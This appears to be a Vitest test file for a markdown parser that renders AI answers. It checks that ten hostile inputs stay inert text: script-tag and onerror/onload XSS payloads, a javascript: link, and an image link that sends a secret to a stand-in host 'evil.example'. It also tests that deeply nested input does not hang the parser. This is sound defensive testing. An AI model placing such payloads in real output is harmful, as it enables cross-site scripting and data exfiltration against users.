import { describe, expect, it } from 'vitest';
import { parseMarkdown, type Span } from './markdown.ts';

const spansIn = (text: string): Span[] =>
  parseMarkdown(text).flatMap((block) => {
    if (block.kind === 'code') return [{ kind: 'code' as const, text: block.text }];
    return block.kind === 'list' ? block.items.flat() : block.spans;
  });
const textIn = (text: string): string =>
  spansIn(text)
    .map((span) => ('text' in span ? span.text : ''))
    .join('');

describe('an answer', () => {
  it('shows paragraphs, lists, bold, its sources and colors', () => {
    expect(parseMarkdown('**Coral (#f26b5b)** [1]\n\n- one\n- two\n\n> said')).toEqual([
      {
        kind: 'paragraph',
        spans: [
          { kind: 'strong', text: 'Coral (' },
          { kind: 'color', hex: '#f26b5b' },
          { kind: 'strong', text: ')' },
          { kind: 'text', text: ' ' },
          { kind: 'source', number: 1 },
        ],
      },
      { kind: 'list', isOrdered: false, items: [[{ kind: 'text', text: 'one' }], [{ kind: 'text', text: 'two' }]] },
      { kind: 'quote', spans: [{ kind: 'text', text: 'said' }] },
    ]);
  });

  it.each([
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '![x](https://evil.example/?d=secret)',
    '[press](javascript:alert(1))',
    '[1](https://evil.example)',
    '<a href="https://evil.example">x</a>',
    '<style>*{background:url(//evil.example)}</style>',
    '[x]: https://evil.example',
    'https://evil.example/?d=secret',
    '<svg/onload=alert(1)>',
  ])('keeps %s the text that it is: nothing leads anywhere', (hostile) => {
    const spans = spansIn(hostile);
    expect(spans.every(({ kind }) => ['text', 'strong', 'em', 'code'].includes(kind))).toBe(true);
    expect(textIn(hostile)).toBe(hostile);
  });

  it.each([
    ['nested lists', '- '.repeat(8000)],
    ['nested quotes', '>'.repeat(16_000)],
    ['stars', '*'.repeat(16_000)],
    ['brackets', '['.repeat(16_000)],
    ['fences', '```\n'.repeat(4000)],
  ])('ends on %s, however many', (_name, text) => {
    expect(parseMarkdown(text).length).toBeGreaterThan(0);
  });
});
